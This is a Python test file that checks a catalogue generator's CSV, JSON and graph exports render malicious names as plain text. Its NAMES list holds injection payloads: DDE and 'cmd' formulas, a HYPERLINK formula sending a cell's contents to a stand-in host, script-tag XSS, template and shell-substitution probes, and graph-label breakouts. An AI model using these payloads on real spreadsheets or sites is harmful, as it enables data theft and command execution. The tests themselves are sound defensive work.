"""Names made to become formulas, markup or syntax: in every export they stay the text that they are."""

import csv
import io
import json
import re
import unicodedata
from xml.etree import ElementTree

import pytest

from generator.exports import EXPORTS
from generator.exports.cells import guarded, unguarded
from generator.exports.graphs import GRAPHS
from generator.project import Project
from tests.unit.exports import small

NAMES = (
    "=1+1", "=cmd|'/c calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"看")', "+1+1", "+86(20)1", "-1+1", "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)", "@A1", "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "﹢1", "﹣1", "﹫A1", "'=1+1", "''=1", "'", '"=1+1"', '"', '""',
    '","=1+1', '";=1+1', "a;=1+1", "a,=1+1", "=1;=2", "=IMPORTXML(\"http://x.example\",\"//a\")", "=DDE(\"cmd\";\"/c\")",
    "=WEBSERVICE(\"http://x.example\")", "%3D1+1", "|calc", "==1", "=-1", "-=1", "=1 名称", "=中文", "</script><script>alert(1)</script>",
    "<!--", "]]>", "<![CDATA[x]]>", "&amp;", "&lt;b&gt;", "{{7*7}}", "${7*7}", "\\", "\\\"", "\"]; evil -> x [label=\"", "\\N", "end",
    "\"]:::x", "a\"] --> b[\"", "%% 注释", "`id`", "$(id)", "null", "true", "-", "=",
)  # fmt: skip
"""Accepted as names: one line, no blank at the ends."""

ORGANISATION_CELLS = ("name_zh", "name_en", "address_zh")
PRODUCT_CELLS = ("vendor_name", "model", "price_note_zh")
BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\u00a0",
    "\u3000",
    "\u200b",
    "\ufeff",
    "\u2060",
    "\u00ad",
    "\x00",
    "\u202e",
    " \t\n ",
)
"""What a formula may hide behind in a longer text."""


def named(*names: str) -> dict[str, str]:
    """For each name an organisation and a product that use it wherever a text can stand."""
    files = {}
    for number, name in enumerate(names):
        text = json.dumps(name, ensure_ascii=False)
        files[f"catalog/organisations/n-{number:02}.yaml"] = (
            f"name: {{zh: {text}, en: {text}}}\ntypes: [research]\naddress: {{zh: {text}}}\n"
        )
        files[f"catalog/products/p-{number:02}.yaml"] = (
            f"name: {{zh: 产品}}\nvendor: n-{number:02}\ncategory: switch\nmodel: {text}\nprice_note: {{zh: {text}}}\n"
        )
    return files


@pytest.fixture(scope="module")
def project() -> Project:
    return small.project(named(*NAMES))


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet might compute it: the first character that shows is a sign that begins a formula."""
    shown = (c for c in cell if not c.isspace() and unicodedata.category(c) not in ("Cc", "Cf"))
    return unicodedata.normalize("NFKC", next(shown, "x"))[:1] in "=+-@"


def test_there_are_enough():
    assert len(set(NAMES)) >= 40
    assert sum(map(is_formula, NAMES)) >= 25


@pytest.mark.parametrize("before", BEFORE, ids=ascii)
def test_no_cell_is_a_formula(before: str):
    for name in NAMES:
        cell = guarded(before + name)
        assert not is_formula(cell)
        assert not is_formula(name) or cell.startswith("'")
        assert cell[:1] not in ("\t", "\r", "\n", "\x00")
        assert unguarded(cell) == before + name


def test_tables(project: Project):
    files = dict(EXPORTS["csv"].files(project, small.tree()))
    tables = {path: io.StringIO(content.decode("utf-8-sig"), newline="") for path, content in files.items()}
    for path, table in tables.items():
        rows = list(csv.reader(table))
        assert {len(row) for row in rows} == {len(rows[0])}, path
        assert not [cell for row in rows for cell in row if is_formula(cell)], path
        table.seek(0)
    for kind, keys in {"organisations/n-": ORGANISATION_CELLS, "products/p-": PRODUCT_CELLS}.items():
        found = [row for row in csv.DictReader(tables[f"exports/csv/{kind[:-3]}.csv"]) if row["id"].startswith(kind)]
        assert [[unguarded(row[key]) for key in keys] for row in found] == [[name] * len(keys) for name in NAMES]


def test_json(project: Project):
    files = dict(EXPORTS["api"].files(project, small.tree(named(*NAMES))))
    assert not [path for path, content in files.items() if path.endswith(".json") and b"</" in content]
    for number, name in enumerate(NAMES):
        unit = json.loads(files[f"api/v1/organisations/n-{number:02}.json"])
        assert (unit["name"], unit["fields"]["address"]) == ({"zh": name, "en": name}, {"zh": name, "en": None})
        product = json.loads(files[f"api/v1/products/p-{number:02}.json"])
        assert (product["fields"]["vendor"]["name"]["zh"], product["links"][0]["name"]["en"]) == (name, name)


def test_graphs(project: Project):
    made = {form: make(project, project.entries).decode() for form, make in GRAPHS.items()}
    labels = [data.text for data in ElementTree.fromstring(made["graphml"]).iter() if data.tag.endswith("}data")]
    assert set(NAMES) <= set(labels)
    label = re.compile(r'  "organisations/n-[0-9]+" \[label=("(?:[^"\\]|\\["\\])*")\];')
    found = [match[1] for line in made["dot"].splitlines() if (match := label.fullmatch(line))]
    assert [json.loads(text) for text in found] == list(NAMES)
    # The same lines as with harmless names: nothing was ended, begun or left out by one.
    harmless = small.project(named(*("名称" for _ in NAMES)))
    for form in ("dot", "mermaid"):
        assert made[form].count("\n") == GRAPHS[form](harmless, harmless.entries).decode().count("\n")
    shown = re.findall(r'^  n[0-9]+\["(.*)"\](?::::example)?$', made["mermaid"], re.MULTILINE)
    assert len(shown) == len(project)
    assert not set("".join(shown)) & set('"[]{}<>`%;#|')
